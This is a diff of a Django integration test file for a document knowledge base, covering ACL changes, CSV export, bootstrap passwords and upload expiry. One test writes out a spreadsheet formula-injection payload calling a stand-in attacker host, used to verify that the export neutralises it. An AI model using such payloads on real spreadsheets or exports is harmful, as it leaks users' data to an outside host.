@@ -6,8 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import subprocess
-import sys
 from datetime import timedelta
 from pathlib import Path
 
@@ -15,16 +13,17 @@ import pytest
 from django.contrib.auth.models import Group, User
 from django.utils import timezone
 
+from athena.principals import Principal
 from audit.models import AuditEvent
 from audit.services import audit_record
 from knowledge.models import Chunk, Document, DocumentStatus
 from knowledge.selectors import document_list_visible
 from knowledge.services import IngestOptions, files_ingest, uploads_expire
-from retrieval.types import Principal
 from tests.api import client_for, make_user
 from tests.knowledge.conftest import write_docs
 
-ROOT = Path(__file__).resolve().parents[2]
+pytestmark = [pytest.mark.integration, pytest.mark.django_db]
+
 DOC = "# Rack power budget\n\nEach rack in hall B is limited to 8 kW; ask facilities before adding a blade chassis.\n"
 
 
@@ -34,9 +33,7 @@ def _ingest(root: Path, options: IngestOptions) -> None:
     assert summary.failed == 0, summary.errors
 
 
-@pytest.mark.integration
 @pytest.mark.slow
-@pytest.mark.django_db
 def test_deleting_a_group_never_opens_its_documents(tmp_path: Path) -> None:
     _ingest(write_docs(tmp_path / "a", {"power.md": DOC}), IngestOptions(acl_groups=("facilities",)))
     _ingest(write_docs(tmp_path / "b", {"power-b.md": DOC}), IngestOptions(acl_groups=("facilities", "noc")))
@@ -55,8 +52,6 @@ def test_deleting_a_group_never_opens_its_documents(tmp_path: Path) -> None:
     assert AuditEvent.objects.filter(kind="acl_change", documents__contains=["power.md"]).exists()
 
 
-@pytest.mark.integration
-@pytest.mark.django_db
 def test_the_csv_export_neutralises_formulas() -> None:
     attacker = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     audit_record(kind="login_failed", actor=attacker, verdict="denied", payload={"username": attacker})
@@ -68,10 +63,8 @@ def test_the_csv_export_neutralises_formulas() -> None:
     assert any(value == "'" + attacker for value in cells)
 
 
-@pytest.mark.integration
-@pytest.mark.django_db
 def test_bootstrap_sets_no_known_password_outside_development() -> None:
-    from athena.management.commands.bootstrap import demo_users_ensure
+    from knowledge.management.commands.bootstrap import demo_users_ensure
 
     admin = User.objects.create_user("admin", password="a-changed-strong-password")
     assert demo_users_ensure(debug=False) is False
@@ -82,9 +75,7 @@ def test_bootstrap_sets_no_known_password_outside_development() -> None:
     assert User.objects.get(username="alice").check_password("alice-demo-pass")
 
 
-@pytest.mark.integration
 @pytest.mark.slow
-@pytest.mark.django_db
 def test_expired_private_uploads_are_tombstoned_and_deleted(settings) -> None:  # type: ignore[no-untyped-def]
     owner = make_user("eng", "employees")
     folder = Path(settings.MEDIA_ROOT) / "uploads" / str(owner.pk)
@@ -108,48 +99,6 @@ def test_expired_private_uploads_are_tombstoned_and_deleted(settings) -> None:  
     assert uploads_expire() == 0  # idempotent
 
 
-@pytest.mark.unit
-def test_production_settings_insist_on_https() -> None:
-    code = (
-        "import django; from django.conf import settings; django.setup(); "
-        "print(settings.SECURE_SSL_REDIRECT, settings.SECURE_HSTS_SECONDS >= 31536000, "
-        "settings.SECURE_PROXY_SSL_HEADER, settings.SESSION_COOKIE_SECURE, settings.CSRF_COOKIE_SECURE)"
-    )
-    env = {
-        "PATH": "/usr/bin:/bin",
-        "DJANGO_SETTINGS_MODULE": "athena.settings.production",
-        "ATHENA_SECRET_KEY": "x" * 50,
-        "ATHENA_AUDIT_KEY": "k" * 40,
-    }
-    out = subprocess.run(
-        [sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, check=True
-    )
-    assert out.stdout.split() == ["True", "True", "('HTTP_X_FORWARDED_PROTO',", "'https')", "True", "True"]
-    env.pop("ATHENA_AUDIT_KEY")
-    missing = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
-    assert missing.returncode != 0 and "ATHENA_AUDIT_KEY" in missing.stderr
-
-
-@pytest.mark.unit
-@pytest.mark.parametrize("module", ["athena.wsgi", "athena.celery"])
-def test_servers_default_to_production_settings(module: str) -> None:
-    code = f"import os, {module}; print(os.environ['DJANGO_SETTINGS_MODULE'])"
-    env = {"PATH": "/usr/bin:/bin", "ATHENA_SECRET_KEY": "x" * 50, "ATHENA_AUDIT_KEY": "k" * 40}
-    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
-    assert out.returncode == 0, out.stderr[-2000:]
-    assert out.stdout.strip().splitlines()[-1] == "athena.settings.production"
-    # and production refuses to start without its secrets instead of running with development defaults
-    bare = subprocess.run(
-        [sys.executable, "-c", f"import {module}; from django.conf import settings; settings.DEBUG"],
-        cwd=ROOT,
-        env={"PATH": "/usr/bin:/bin"},
-        capture_output=True,
-        text=True,
-    )
-    assert bare.returncode != 0 and "ATHENA_SECRET_KEY" in bare.stderr
-
-
-@pytest.mark.integration
 @pytest.mark.slow
 @pytest.mark.django_db(transaction=True)  # retrieval reads through its own pool connections
 def test_an_expired_upload_is_not_citable_even_before_the_expiry_task(settings) -> None:  # type: ignore[no-untyped-def]
